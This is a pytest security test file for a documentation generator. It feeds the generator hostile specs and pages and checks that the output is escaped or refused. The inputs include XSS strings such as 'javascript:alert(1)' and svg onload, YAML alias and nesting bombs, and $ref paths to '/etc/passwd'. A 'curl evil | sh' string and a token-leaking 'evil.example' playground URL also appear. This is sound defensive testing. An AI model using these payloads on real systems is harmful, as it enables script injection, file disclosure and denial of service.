"""security.md items 1-4 and 10 for the build: hostile spec text, unsafe URLs, output paths."""

from __future__ import annotations

import itertools
import json
import re
import subprocess
import sys
import textwrap
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from docgen.exceptions import OutputError
from docgen.nav.urls import check_all, check_path, path_parts
from docgen.render.markdown import safe_url
from docgen.render.templates import environment

HOSTILE = Path(__file__).resolve().parent / "fixtures" / "hostile" / "openapi.yaml"


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name in ("href", "src", "action") and value and not safe_url(value):
                self.problems.append(f"<{tag} {name}={value}>")
        if tag == "script" and not dict(attrs).get("src", "").endswith(".js"):  # type: ignore[union-attr]
            self.problems.append("inline <script>")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("hostile") / "_site"
    result = subprocess.run(
        [sys.executable, "-m", "docgen", "build", str(HOSTILE), "-o", str(out), "--quiet"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    return out


def test_no_spec_script_or_handler_or_unsafe_link(hostile_site: Path) -> None:
    pages = list(hostile_site.rglob("*.html"))
    assert len(pages) >= 2
    for page in pages:
        audit = _Audit()
        text = page.read_text()
        audit.feed(text)
        assert audit.problems == [], f"{page}: {audit.problems}"
        assert "<script>alert" not in text
        assert not re.search(r"<svg[^>]*onload", text)


def test_hostile_text_is_still_shown_as_text(hostile_site: Path) -> None:
    page = next(hostile_site.rglob("api-reference/**/index.html"))
    text = page.read_text()
    assert "&lt;svg onload=alert(1)&gt; list" in text
    assert "&lt;/script&gt;&lt;script&gt;alert(2)&lt;/script&gt;" in text


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:x",
        " javascript:x",
        "java\tscript:x",
        "vbscript:x",
        "data:text/html,x",
        "\x01javascript:x",
    ],
)
def test_unsafe_urls_are_refused(url: str) -> None:
    assert not safe_url(url)


@pytest.mark.parametrize("url", ["https://a.b/c", "/guides/x", "../x/", "#a", "mailto:a@b.c"])
def test_safe_urls_are_kept(url: str) -> None:
    assert safe_url(url)


ROOT_PAGE_LINKS = """---
title: Home
---

[e](/javascript:alert(1)%2F%2F) ![i](/javascript:alert(2)%2F%2F.png)

<a href="/javascript:alert(3)%2F%2F">a</a> <a href="/\\\\evil.example/x">b</a>

<Card title="c" href="/javascript:alert(4)%2F%2F" img="/javascript:alert(5)%2F%2F.png">x</Card>

<img src="/vbscript:x.png" />
"""


def test_root_relative_links_on_a_root_page_never_become_a_scheme(tmp_path: Path) -> None:
    """A link from the site's root page to ``/javascript:alert(1)%2F%2F`` was written as
    ``href="javascript:alert(1)%2F%2F/"``, which a click runs (``alert(1)///``), and
    ``/\\\\host`` as ``\\\\host``, another site."""
    (tmp_path / "docs.json").write_text('{"name": "x", "navigation": {"pages": ["index"]}}')
    (tmp_path / "index.mdx").write_text(ROOT_PAGE_LINKS)
    result = _docgen(tmp_path, "build", str(tmp_path / "docs.json"), "-o", str(tmp_path / "o"))
    assert result.returncode == 0, result.stdout + result.stderr
    html = (tmp_path / "o" / "index.html").read_text()
    urls = re.findall(r'(?:href|src)="([^"]*)"', html)
    assert sum("alert(" in u for u in urls) == 5 and any("evil.example" in u for u in urls)
    for url in urls:
        assert not re.match(r"[a-z][a-z0-9+.-]*:", url) or url.startswith("https:"), url
        assert not url.startswith(("//", "\\", "/\\")), url


def test_pages_never_write_the_attributes_docgens_scripts_read() -> None:
    """playground.js reads the first ``.op-layout[data-docgen-playground]`` and, in auth mode,
    fetches its ``src`` with the reader's bearer token: a page could write one (only document
    order kept the real one first). Other ``data-*`` attributes stay."""
    from docgen.render.mdx import render_mdx

    page = (
        '<div className="op-layout" data-docgen-playground=\'{"mode":"auth","src":'
        '"https://evil.example/"}\' data-MDX-copy data-x="1">a</div>\n\n'
        'x <span data-docgen-copy="curl evil | sh">y</span>\n'
    )
    html = render_mdx(page, 1, "./").rendered.html
    assert "data-docgen" not in html.lower() and "data-mdx" not in html.lower(), html
    assert 'data-x="1"' in html


def test_every_template_autoescapes() -> None:
    env = environment()
    for name in ("x.txt", "x.md", "x.xml", "x.html"):
        template = env.from_string("{{ v }}")
        template.name = name
        assert template.render(v="<b>") == "&lt;b&gt;"
    assert env.autoescape is True


@pytest.mark.parametrize(
    "path", ["../x", "/abs", "a/../../x", "CON/index.html", "nul.txt", "a\x00b", "a\\b", "", "a//b"]
)
def test_unsafe_output_paths_are_refused(path: str) -> None:
    with pytest.raises(OutputError):
        check_path(path)


def test_path_parts_splits_and_refuses_as_pure_posix_path_would() -> None:
    """The string fast path of :func:`path_parts` against PurePosixPath's own splitting, on
    every string of up to four pieces (dots, slashes, device names, control characters, names
    of 64 characters in 64 and in 256 bytes)."""
    from pathlib import PurePosixPath

    pieces = ["a", "b", ".", "..", "/", "CON", "x.y", "\x01", "\u00e9", ".git"]
    pieces += ["n" * 64, "\U0001f600" * 64]

    def reference(relative: str) -> tuple[str, ...] | None:
        if not relative or "//" in relative or relative.startswith("/"):
            return None
        parts = PurePosixPath(relative).parts
        for part in parts:
            bad = part in ("", ".", "..") or any(ord(c) < 32 for c in part)
            bad = bad or len(part.encode()) > 255
            if bad or part.split(".", 1)[0].lower() == "con":
                return None
        return parts

    checked = 0
    for size in range(1, 5):
        for combo in itertools.product(pieces, repeat=size):
            relative = "".join(combo)
            try:
                got: tuple[str, ...] | None = path_parts(relative)
            except OutputError:
                got = None
            assert got == reference(relative), relative
            checked += 1
    assert checked > 10_000


def test_case_and_normalisation_collisions_are_refused() -> None:
    with pytest.raises(OutputError):
        check_all({"Guide/index.html": b"", "guide/index.html": b""})
    with pytest.raises(OutputError):
        check_all({"caf\u00e9.md": b"", "cafe\u0301.md": b""})


# -- security.md 5-9 end to end: the CLI on hostile YAML/JSON, recursive and escaping $refs -----

DEEP = 100_000
MEMORY = 1 << 30  # address-space limit of each docgen child: a blow-up fails instead of swapping


def _limit_memory() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


def _docgen(tmp: Path, *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """``docgen ARGS`` in a child with bounded memory; its output must be free of tracebacks."""
    import os

    env = {k: v for k, v in os.environ.items() if k != "DOCGEN_DEBUG"}
    env["DOCGEN_CACHE_DIR"] = str(tmp / ".cache")
    result = subprocess.run(
        [sys.executable, "-m", "docgen", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
        preexec_fn=_limit_memory,
        check=False,
    )
    output = result.stdout + result.stderr
    assert result.returncode in (0, 1, 2), f"exit {result.returncode} (signal?): {output[-500:]}"
    assert "Traceback" not in output and "internal error" not in output, output[-2000:]
    return result


def _laughs(levels: int = 9) -> str:
    """A billion-laughs chain: a few hundred bytes naming 9**levels strings."""
    names = "abcdefghijklmnop"[:levels]
    lines = ['  - &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in itertools.pairwise(names):
        lines.append(f"  - &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    return "x-lol:\n" + "\n".join(lines) + f"\ntags: *{names[-1]}\n"


SPEC_HEAD = 'openapi: 3.0.3\ninfo: {title: T, version: "1"}\n'


@pytest.mark.parametrize("command", ["check", "build"])
def test_alias_bomb_spec_is_refused_quickly(tmp_path: Path, command: str) -> None:
    text = SPEC_HEAD + "paths: {}\n" + _laughs()
    assert len(text) < 1000
    (tmp_path / "openapi.yaml").write_text(text)
    result = _docgen(
        tmp_path,
        command,
        str(tmp_path / "openapi.yaml"),
        "-o" if command == "build" else "--format",
        str(tmp_path / "_site") if command == "build" else "text",
        timeout=30,
    )
    assert result.returncode == 1
    assert "error[spec-parse-error]" in result.stdout + result.stderr
    assert "alias bomb" in result.stdout + result.stderr
    assert not (tmp_path / "_site").exists()


def test_spec_with_benign_anchors_builds(tmp_path: Path) -> None:
    (tmp_path / "openapi.yaml").write_text(
        SPEC_HEAD
        + textwrap.dedent("""\
        paths:
          /a/{id}:
            get:
              summary: Get a
              parameters:
                - &id {name: id, in: path, required: true, schema: {type: string, format: uuid}}
              responses: &ok {"200": {description: OK}}
          /b/{id}:
            get:
              summary: Get b
              parameters: [*id]
              responses: *ok
        """)
    )
    out = tmp_path / "_site"
    result = _docgen(tmp_path, "build", str(tmp_path / "openapi.yaml"), "-o", str(out))
    assert result.returncode == 0, result.stderr
    for slug in ("get-a", "get-b"):
        page = next(out.rglob(f"{slug}/index.html")).read_text()
        assert 'id="id"' in page and "uuid" in page


HOSTILE_TEXTS = {
    "cyclic-alias": ("openapi.yaml", SPEC_HEAD + "paths: {}\nx-a: &a {b: [*a]}\n", "cyclic alias"),
    "deep-yaml": ("openapi.yaml", SPEC_HEAD + "x: " + "[" * DEEP + "]" * DEEP + "\n", "nesting"),
    "deep-yaml-map": (
        "openapi.yaml",
        SPEC_HEAD + "x: " + "{a: " * DEEP + "1" + "}" * DEEP,
        "nesting",
    ),
    "deep-json": (
        "openapi.json",
        '{"openapi": "3.0.3", "x": ' + "[" * DEEP + "]" * DEEP + "}",
        "nesting",
    ),
    # Python reads and writes integers of at most 4,300 digits: these were internal errors.
    "long-int-json": (
        "openapi.json",
        '{"openapi": "3.0.3", "x": ' + "7" * 5000 + "}",
        "openapi.json:1:27: error[spec-parse-error]",
    ),
    "long-int-yaml": (
        "openapi.yaml",
        SPEC_HEAD + "x: " + "7" * 5000 + "\n",
        "openapi.yaml:3:4: error[spec-parse-error]",
    ),
    "long-hex-yaml": (
        "openapi.yaml",
        SPEC_HEAD + "x: 0x" + "f" * 4000 + "\n",
        "openapi.yaml:3:4: error[spec-parse-error]",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_TEXTS))
@pytest.mark.parametrize("command", ["check", "build"])
def test_cyclic_and_deep_specs_are_exit_1(tmp_path: Path, case: str, command: str) -> None:
    name, text, words = HOSTILE_TEXTS[case]
    (tmp_path / name).write_text(text)
    extra = ["-o", str(tmp_path / "_site")] if command == "build" else []
    result = _docgen(tmp_path, command, str(tmp_path / name), *extra, timeout=60)
    output = result.stdout + result.stderr
    assert result.returncode == 1, output[-500:]
    assert "error[spec-parse-error]" in output and words in output, output[-500:]


@pytest.mark.parametrize("where", ["config", "frontmatter"])
def test_deep_config_and_frontmatter_are_exit_1(tmp_path: Path, where: str) -> None:
    (tmp_path / "openapi.yaml").write_text(SPEC_HEAD + "paths: {}\n")
    deep_json = '{"name": "x", "navigation": {"pages": ["index"]}, "x": ' + "[" * DEEP + "]" * DEEP
    if where == "config":
        (tmp_path / "docs.json").write_text(deep_json + "}")
        (tmp_path / "index.md").write_text("# Hi\n")
        code = "error[config-parse-error]"
    else:
        (tmp_path / "docs.json").write_text('{"name": "x", "navigation": {"pages": ["index"]}}')
        (tmp_path / "index.md").write_text("---\ntitle: " + "[" * DEEP + "]" * DEEP + "\n---\n")
        code = "error[page-parse-error]"
    for command in ("check", "build"):
        result = _docgen(tmp_path, command, str(tmp_path / "docs.json"))
        assert result.returncode == 1
        assert code in result.stdout + result.stderr, (result.stdout + result.stderr)[-500:]


@pytest.mark.parametrize("where", ["config", "frontmatter", "expression"])
def test_numbers_longer_than_python_reads_are_clear_errors(tmp_path: Path, where: str) -> None:
    """A 5,000-digit number in docs.json or frontmatter is an error at its place; in an MDX
    expression it is shown as written (it was an internal error); a long run of digits with a
    letter after it is read at once (a backtracking pattern took 20 s for each)."""
    config, page = {"name": "x", "navigation": {"pages": ["index"]}}, "# Hi\n"
    digits = "7" * 5000
    if where == "config":
        text = json.dumps(config)[:-1] + f', "x": {digits}}}'
        (tmp_path / "docs.json").write_text(text)
        expected = f"docs.json:1:{text.index(digits) + 1}: error[config-parse-error]"
    else:
        (tmp_path / "docs.json").write_text(json.dumps(config))
        if where == "frontmatter":
            page = f"---\ntitle: {digits}\n---\n"
            expected = "index.mdx:2:8: error[page-parse-error]"
        else:
            long_and_letter = "{" + "7" * 19_000 + "x}\n\n"
            page = f"# Hi\n\n{{{digits}}}\n\n" + long_and_letter * 8
            expected = "index.mdx:3:1: warning[mdx-unsupported]"
    (tmp_path / "index.mdx").write_text(page)
    for command in ("check", "build"):
        result = _docgen(tmp_path, command, str(tmp_path / "docs.json"), timeout=60)
        output = result.stdout + result.stderr
        assert result.returncode == (0 if where == "expression" else 1), output[-500:]
        assert expected in output, output[-500:]


def test_yaml_11_values_are_shown_as_written(tmp_path: Path) -> None:
    (tmp_path / "openapi.yaml").write_text(
        textwrap.dedent("""\
        openapi: 3.0.3
        info: {title: T, version: "1"}
        paths:
          /switch:
            get:
              summary: Get switch
              parameters:
                - name: state
                  in: query
                  schema: {type: string, enum: [on, off, yes, no], default: off}
                - name: since
                  in: query
                  schema: {type: string, format: date, example: 2024-01-02}
              responses:
                200:
                  description: Switch state
                  content:
                    application/json:
                      schema:
                        type: object
                        properties:
                          at: {type: string, format: date-time, example: 2024-01-02T10:00:00Z}
                          country: {type: string, enum: [NO, SE]}
        """)
    )
    out = tmp_path / "_site"
    result = _docgen(tmp_path, "build", str(tmp_path / "openapi.yaml"), "-o", str(out))
    assert result.returncode == 0, result.stderr
    page = next(out.rglob("get-switch/index.html")).read_text()
    chips = re.findall(r'<code class="chip">([^<]*)</code>', page)
    assert {"on", "off", "yes", "no", "NO", "SE"} <= set(chips), chips
    assert not {"true", "false", "True", "False"} & set(chips), chips
    assert "2024-01-02T10:00:00Z" in page and "2024-01-02 00:00:00" not in page
    assert re.search(r">\s*2024-01-02\s*<", page)
    assert re.search(r">\s*200\s*<", page)  # the response status, kept as written


RECURSIVE = """\
openapi: 3.0.3
info: {title: T, version: "1"}
paths:
  /tree:
    get:
      summary: Get tree
      responses:
        "200":
          description: OK
          content:
            application/json:
              schema: {$ref: "#/components/schemas/Node"}
components:
  schemas:
    Node:
      type: object
      properties:
        name: {type: string}
        parent: {$ref: "#/components/schemas/Node"}
        children: {type: array, items: {$ref: "#/components/schemas/Node"}}
"""


def test_recursive_schema_builds_with_the_cycle_as_a_link(tmp_path: Path) -> None:
    (tmp_path / "openapi.yaml").write_text(RECURSIVE)
    out = tmp_path / "_site"
    result = _docgen(tmp_path, "build", str(tmp_path / "openapi.yaml"), "-o", str(out), timeout=30)
    assert result.returncode == 0, result.stderr
    page = next(out.rglob("get-tree/index.html")).read_text()
    links = re.findall(r'Circular reference to <a href="#([^"]+)">Node</a>', page)
    assert links, "the cycle is not shown as a link"
    for target in links:
        assert f'id="{target}"' in page


def test_ref_fan_out_is_not_exponential(tmp_path: Path) -> None:
    """30 schemas, each referencing the next twice: 2**30 paths if every use were expanded."""
    schemas = {
        f"S{i}": {
            "type": "object",
            "description": f"Level {i}",
            "properties": {
                "left": {"$ref": f"#/components/schemas/S{i + 1}"},
                "right": {"$ref": f"#/components/schemas/S{i + 1}"},
            },
        }
        for i in range(30)
    }
    schemas["S30"] = {"type": "object", "properties": {"leaf": {"type": "string"}}}
    spec = {
        "openapi": "3.0.3",
        "info": {"title": "T", "version": "1"},
        "paths": {
            "/fan": {
                "post": {
                    "summary": "Fan out",
                    "requestBody": {
                        "content": {
                            "application/json": {"schema": {"$ref": "#/components/schemas/S0"}}
                        }
                    },
                    "responses": {
                        "200": {
                            "description": "OK",
                            "content": {
                                "application/json": {"schema": {"$ref": "#/components/schemas/S0"}}
                            },
                        }
                    },
                }
            }
        },
        "components": {"schemas": schemas},
    }
    (tmp_path / "openapi.json").write_text(json.dumps(spec))
    out = tmp_path / "_site"
    started = time.perf_counter()
    result = _docgen(tmp_path, "build", str(tmp_path / "openapi.json"), "-o", str(out), timeout=60)
    elapsed = time.perf_counter() - started
    assert result.returncode == 0, result.stderr
    assert elapsed < 20, f"build took {elapsed:.1f} s"
    page = next(out.rglob("fan-out/index.html")).read_text()
    fields = page.count('class="field"') + page.count('class="field ')
    assert 0 < fields < 500, f"{fields} fields on one page: fan-out was expanded"
    assert len(page) < 1_000_000


OUTSIDE_REFS = [
    ("../secret.yaml", "../missing.yaml"),
    ("../../etc/passwd", "../../etc/no-such-file-here"),
    ("/etc/passwd", "/etc/no-such-file-here"),
    ("link.yaml", "dangling.yaml"),
]


def _ref_spec(ref: str) -> str:
    return SPEC_HEAD + textwrap.dedent(f"""\
        paths:
          /a:
            get:
              responses:
                "200":
                  description: OK
                  content:
                    application/json:
                      schema: {{$ref: "{ref}#/X"}}
        """)


@pytest.mark.parametrize(("existing", "missing"), OUTSIDE_REFS)
def test_ref_outside_root_says_nothing_about_the_target(
    tmp_path: Path, existing: str, missing: str
) -> None:
    """An existing and a missing target give the same message: nothing of the target is read."""
    docs = tmp_path / "a" / "docs"
    docs.mkdir(parents=True)
    (tmp_path / "a" / "secret.yaml").write_text("X: {type: string}\n")
    (docs / "link.yaml").symlink_to(tmp_path / "a" / "secret.yaml")
    (docs / "dangling.yaml").symlink_to(tmp_path / "a" / "no-such.yaml")
    lines = []
    for ref in (existing, missing):
        (docs / "openapi.yaml").write_text(_ref_spec(ref))
        result = _docgen(tmp_path, "check", str(docs / "openapi.yaml"))
        assert result.returncode == 1
        found = [x for x in result.stdout.splitlines() if "error[" in x]
        assert len(found) == 1 and "error[ref-outside-root]" in found[0], result.stdout
        lines.append(found[0].replace(ref, "REF").replace("secret", "X").replace("no-such", "X"))
    assert lines[0] == lines[1]


def test_remote_refs_and_specs_make_no_connection(tmp_path: Path) -> None:
    import socket
    import threading

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    connections: list[object] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            connections.append(conn)
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    base = f"http://127.0.0.1:{port}"
    try:
        (tmp_path / "openapi.yaml").write_text(_ref_spec(f"{base}/s.yaml"))
        (tmp_path / "openapi31.yaml").write_text(
            _ref_spec(f"{base}/t.yaml").replace("3.0.3", "3.1.0")
        )
        (tmp_path / "docs.json").write_text(
            json.dumps(
                {
                    "name": "x",
                    "navigation": {
                        "tabs": [
                            {"tab": "A", "openapi": "openapi.yaml"},
                            {"tab": "B", "openapi": "openapi31.yaml"},
                            {"tab": "C", "openapi": f"{base}/openapi.yaml"},
                        ]
                    },
                }
            )
        )
        for command in ("check", "build"):
            result = _docgen(tmp_path, command, str(tmp_path / "docs.json"))
            assert result.returncode == 1
            output = result.stdout + result.stderr
            assert "error[spec-remote]" in output and "error[ref-outside-root]" in output, output
    finally:
        stop.set()
        thread.join(timeout=5)
        server.close()
    assert connections == [], "docgen connected to a URL"


@pytest.mark.parametrize("where", ["component", "page"])
def test_constants_that_double_each_other_stay_within_memory(tmp_path: Path, where: str) -> None:
    """Twenty constants each written as the one before twice: 2 KB of page would be 2 GB of
    text (the reviewer's repro crashed check with MemoryError); a value past 1 MB is left out,
    and a component's is said."""
    chain = "\n".join(f"  const a{n} = `${{a{n - 1}}}${{a{n - 1}}}`;" for n in range(1, 20))
    if where == "component":
        page = (
            "---\ntitle: Home\n---\n\nexport const Boom = ({ p }) => {\n  const a0 = `${p}${p}`;\n"
            f"{chain}\n  return <div title={{a19}}>{{a19}}</div>;\n}};\n\n"
            f'<Boom p="{"x" * 2000}" />\n'
        )
    else:
        exports = chain.replace("  const", "export const")
        page = f'---\ntitle: Home\n---\n\nexport const a0 = "{"x" * 2000}";\n{exports}\n\n{{a19}}\n'
    (tmp_path / "index.mdx").write_text(page)
    config = {"name": "T", "navigation": {"pages": ["index"]}}
    (tmp_path / "docs.json").write_text(json.dumps(config))
    result = _docgen(tmp_path, "check", str(tmp_path / "docs.json"), timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    if where == "component":
        assert "<Boom> computes" in result.stdout + result.stderr
